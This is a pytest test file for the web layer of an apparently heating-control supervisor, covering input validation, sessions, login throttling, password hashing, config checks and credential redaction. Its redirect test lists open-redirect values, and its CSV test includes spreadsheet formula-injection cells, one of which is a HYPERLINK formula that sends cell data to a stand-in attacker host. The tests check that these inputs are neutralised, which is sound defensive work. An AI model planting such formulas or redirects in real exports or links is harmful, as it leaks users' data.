"""Pure helpers of the web layer: input validation, sessions, throttling, config, rooms."""

from __future__ import annotations

import csv
import io
import math
from typing import Any

import pytest
from heatkeeper.supervisor import reports, users
from heatkeeper.supervisor.web import auth, config, validation
from heatkeeper.supervisor.web.api import room_series
from heatkeeper.supervisor.web.render import safe_next


class Clock:
    def __init__(self) -> None:
        self.t = 1000.0

    def __call__(self) -> float:
        return self.t


def test_command_validation_cleans_and_refuses() -> None:
    kind, args, lease = validation.command({"kind": "set_room_setpoint", "args": {"room_setpoint_c": "20.5"},
                                            "lease_s": 3600})
    assert (kind, args, lease) == ("set_room_setpoint", {"room_setpoint_c": 20.5}, 3600.0)
    assert validation.command({"kind": "set_mode", "args": {"mode": "summer"}}) == ("set_mode", {"mode": "summer"}, None)
    for bad in [None, {"kind": "x"}, {"kind": "boost", "args": {"boost_k": 2}},
                {"kind": "boost", "args": {"boost_k": math.inf, "duration_s": 60}},
                {"kind": "set_valve_manual", "args": {"valve_pct": True}},
                {"kind": "set_dp_setpoint", "args": {"dp_setpoint_kpa": 50}, "lease_s": 7 * 86400 + 1}]:
        with pytest.raises(validation.BadInput) as info:
            validation.command(bad)
        assert str(info.value)


def test_reasons_name_key_value_unit_and_range() -> None:
    with pytest.raises(validation.BadInput) as info:
        validation.command({"kind": "set_supply_setpoint", "args": {"supply_setpoint_c": 130}, "lease_s": 600})
    assert str(info.value) == "supply_setpoint_c=130 degC: must be in [20, 100]"


def test_time_range() -> None:
    assert validation.time_range(None, None, 1000.0, 100.0, 500.0) == (900.0, 1000.0)
    assert validation.time_range("10", "20", 1000.0, 100.0, 500.0) == (10.0, 20.0)
    for t0, t1 in (("20", "10"), ("x", None), ("0", "1000")):
        with pytest.raises(validation.BadInput):
            validation.time_range(t0, t1, 1000.0, 100.0, 500.0)


def test_sessions_expire_when_idle_or_old() -> None:
    clock = Clock()
    store = auth.SessionStore(idle_s=100.0, max_age_s=250.0, clock=clock)
    s = store.create("oli", "operator", "zh")
    assert store.get(s.token) is s and s.allows("viewer") and not s.allows("admin")
    clock.t += 99.0
    assert store.get(s.token) is s
    clock.t += 101.0
    assert store.get(s.token) is None
    s2 = store.create("oli", "operator", "zh")
    for _ in range(3):
        clock.t += 90.0
        store.get(s2.token)
    assert store.get(s2.token) is None  # 270 s old: past the absolute lifetime
    s3 = store.create("vic", "viewer", "en")
    assert store.drop_user("vic") == 1 and store.get(s3.token) is None
    assert store.get("") is None and store.get("forged") is None


def test_roles_and_tokens() -> None:
    assert auth.role_allows("admin", "operator") and not auth.role_allows("viewer", "operator")
    assert not auth.role_allows("root", "viewer")
    assert auth.tokens_equal("abc", "abc") and not auth.tokens_equal("", "") and not auth.tokens_equal("a", "b")


def test_login_throttle_counts_before_the_check_and_never_locks_a_name() -> None:
    clock = Clock()
    th = auth.LoginThrottle(ip_burst=4, ip_rate_per_s=0.1, global_burst=100, global_rate_per_s=10.0,
                            free_failures=2, base_delay_s=1.0, max_delay_s=4.0, clock=clock)
    # Rule 1: attempts are recorded as they arrive, so concurrent guesses are all counted.
    verdicts = [th.attempt("ada", "10.0.0.9") for _ in range(6)]
    assert [v.refused for v in verdicts] == [False] * 4 + [True] * 2
    assert verdicts[-1].why == "address" and verdicts[-1].retry_after_s == pytest.approx(10.0)
    # Rule 4: a growing delay for the name, capped; never a refusal from another address.
    assert [v.delay_s for v in verdicts[:4]] == [0.0, 0.0, 1.0, 2.0]
    assert th.attempt("ada", "10.0.0.7").delay_s == 4.0
    assert th.attempt("ada", "10.0.0.7").delay_s == 4.0
    th.succeeded("ada", "10.0.0.7")
    assert th.failures("ada") == 0 and th.attempt("ada", "10.0.0.7").delay_s == 0.0
    clock.t += 10.0  # one token back for the sprayer
    assert not th.attempt("bob", "10.0.0.9").refused
    assert th.attempt("bob", "10.0.0.9").refused
    clock.t += 10000.0  # failures forgotten after the window
    assert th.failures("bob") == 0


def test_login_throttle_global_bucket_bounds_password_checks() -> None:
    clock = Clock()
    th = auth.LoginThrottle(ip_burst=5, global_burst=3, global_rate_per_s=1.0, clock=clock)
    assert [th.attempt("n%d" % i, "10.0.0.%d" % i).refused for i in range(5)] == [False, False, False, True, True]
    assert th.attempt("x", "10.1.0.1").why == "global"
    clock.t += 1.0
    assert not th.attempt("x", "10.1.0.1").refused


def test_audit_budget_counts_what_it_leaves_out() -> None:
    clock = Clock()
    budget = auth.AuditBudget(limit=2, window_s=60.0, clock=clock)
    assert [budget.take() for _ in range(5)] == [(True, 0), (True, 0), (False, 0), (False, 0), (False, 0)]
    assert budget.left_out_total == 3
    clock.t += 60.0
    assert budget.take() == (True, 3)  # the next row written is preceded by a summary of 3
    assert budget.take() == (True, 0)


def test_session_rotation_ends_every_other_session() -> None:
    store = auth.SessionStore(clock=Clock())
    a, b = store.create("ada", "admin", "en"), store.create("ada", "admin", "zh")
    other = store.create("oli", "operator", "en")
    fresh = store.rotate(a)
    assert fresh.token not in (a.token, b.token) and fresh.csrf != a.csrf and fresh.lang == "en"
    assert store.get(a.token) is None and store.get(b.token) is None
    assert store.get(fresh.token) is fresh and store.get(other.token) is other


def test_web_config_lists_every_problem() -> None:
    assert config.validate(None)["default_lang"] == "zh"
    assert config.validate({"web": {"enabled": True, "port": 8080}})["refresh_s"] == 5.0
    with pytest.raises(config.WebConfigError) as info:
        config.validate({"web": {"refresh_s": 0, "cookie_secure": "yes", "default_lang": "fr",
                                 "collector_tokens": {"x": "short"}, "colour": 1}})
    assert len(info.value.problems) == 5


def test_collector_tokens_file(tmp_path: Any) -> None:
    (tmp_path / "tokens").write_text("# vendor platforms\nvendor-x  tok-0123456789abcdef vx-*\n"
                                     "vendor-y tok-fedcba9876543210 c1,c2 # spare\n")
    cfg = {"supervisor": {"data_dir": str(tmp_path)}, "web": {"collector_tokens_file": "tokens"}}
    assert config.validate(cfg)["collector_tokens"] == {
        "vendor-x": {"token": "tok-0123456789abcdef", "collectors": ["vx-*"]},
        "vendor-y": {"token": "tok-fedcba9876543210", "collectors": ["c1", "c2"]}}
    (tmp_path / "bad").write_text("only-one-field\nshort tok c1\nvendor-z tok-0123456789abcdef\nall tok-0123456789abcdef *\n")
    with pytest.raises(config.WebConfigError) as info:
        config.validate({"supervisor": {"data_dir": str(tmp_path)}, "web": {"collector_tokens_file": "bad"}})
    assert len(info.value.problems) == 4
    with pytest.raises(config.WebConfigError):
        config.validate({"web": {"collector_tokens_file": str(tmp_path / "missing")}})


def test_a_collector_token_must_name_its_collectors() -> None:
    with pytest.raises(config.WebConfigError) as info:
        config.validate({"web": {"collector_tokens": {"vendor-x": "tok-0123456789abcdef",
                                                      "vendor-y": {"token": "tok-0123456789abcdef"},
                                                      "vendor-z": {"token": "tok-0123456789abcdef", "collectors": ["*"]}}}})
    text = "\n".join(info.value.problems)
    assert "web.collector_tokens.vendor-x: a token must name the collectors it may write" in text
    assert "web.collector_tokens.vendor-y.collectors: must list the collectors" in text
    assert "web.collector_tokens.vendor-z.collectors: '*'" in text


def test_plaintext_off_loopback_is_refused_unless_secure_or_explicit() -> None:
    for host in ("127.0.0.1", "::1", "localhost", "127.0.0.2"):
        assert config.validate({"web": {"host": host, "port": 8080}})["cookie_secure"] is False
    for host in ("0.0.0.0", "10.1.2.3", "::", "dashboard.example"):
        with pytest.raises(config.WebConfigError) as info:
            config.validate({"web": {"host": host}})
        assert "web.host=%r: not a loopback address" % host in str(info.value)
        assert "cookie_secure = true" in str(info.value)
        assert config.validate({"web": {"host": host, "cookie_secure": True}})["cookie_secure"] is True
        assert config.validate({"web": {"host": host, "insecure_plaintext": True}})["insecure_plaintext"] is True


def test_safe_next_stays_on_this_site() -> None:
    assert safe_next("/alarms?x=1") == "/alarms?x=1"
    for bad in (None, "", "https://evil.example/", "//evil.example", "/\\evil", "alarms"):
        assert safe_next(bad) == "/"


def test_room_series_keeps_the_coldest_flat_per_bucket() -> None:
    rows = [("c1", 0.0, 19.0, "st", "top"), ("c2", 5.0, 17.5, "st", "top"), ("c3", 12.0, 20.0, "st", "edge"),
            ("c1", 15.0, 18.5, "st", "top")]
    assert room_series(rows, 0.0, 20.0, 2) == {"edge": [[10.0, 20.0]], "top": [[0.0, 17.5], [10.0, 18.5]]}


def test_scrypt_cost_is_owasp_and_old_hashes_still_verify(monkeypatch: pytest.MonkeyPatch) -> None:
    current = users.hash_password("correct horse")
    assert current.split("$")[1:4] == ["131072", "8", "1"]
    assert users.verify_password("correct horse", current) and not users.verify_password("wrong horse", current)
    assert not users.needs_rehash(current)
    monkeypatch.setattr(users, "SCRYPT_N", 2**14)
    old = users.hash_password("correct horse")
    monkeypatch.undo()
    assert old.split("$")[1] == "16384"
    assert users.verify_password("correct horse", old) and users.needs_rehash(old)
    # a damaged or planted row asking for gigabytes is refused, not tried
    assert not users.verify_password("x", "scrypt$%d$8$1$00$00" % 2**22)


def test_account_flags_round_trip_and_never_verify() -> None:
    bare = "scrypt$16384$8$1$00$00"
    for disabled in (False, True):
        for must_change in (False, True):
            stored = users.join_flags(bare, disabled, must_change)
            assert users.split_flags(stored) == (bare, disabled, must_change)
    assert not users.verify_password("x", users.join_flags(users.hash_password("x"), True, False))


def test_csv_cells_that_a_spreadsheet_would_run_are_defused() -> None:
    text = reports.to_csv(("user", "value", "n"), [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', -12.5, -3), ("+1+1", 1.23456, 0), ("-2+3", None, 7),
        ("@SUM(A1)", 0.0, 1), ("\tx", 1.0, 1), ("\rx", 1.0, 1), ("ada", -0.5, -1), ("-", 2.0, 2)])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in rows[1:]] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+1+1", "'-2+3",
                                        "'@SUM(A1)", "'\tx", "'\nx", "ada", "'-"]
    assert [r[1] for r in rows[1:]] == ["-12.5", "1.235", "", "0.0", "1.0", "1.0", "-0.5", "2.0"]  # numbers stay numbers
    assert [r[2] for r in rows[1:]] == ["-3", "0", "7", "1", "1", "1", "-1", "2"]


def test_postgres_dsn_password_never_reaches_a_message() -> None:
    from heatkeeper.supervisor.storage.postgres import redact_dsn, redact_text

    for dsn in ("postgresql://hk:s3cr%40t@db.example:5432/hk", "postgresql://hk@db/hk?password=s3cr%40t&sslmode=require",
                "host=db user=hk password=s3cr%40t dbname=hk"):
        shown = redact_dsn(dsn)
        assert "s3cr" not in shown and "***" in shown and "hk" in shown
        assert "s3cr" not in redact_text("could not connect with %s (password s3cr%%40t rejected)" % dsn, dsn)
    assert redact_dsn("postgresql://hk@/hk?host=/run/postgresql") == "postgresql://hk@/hk?host=/run/postgresql"
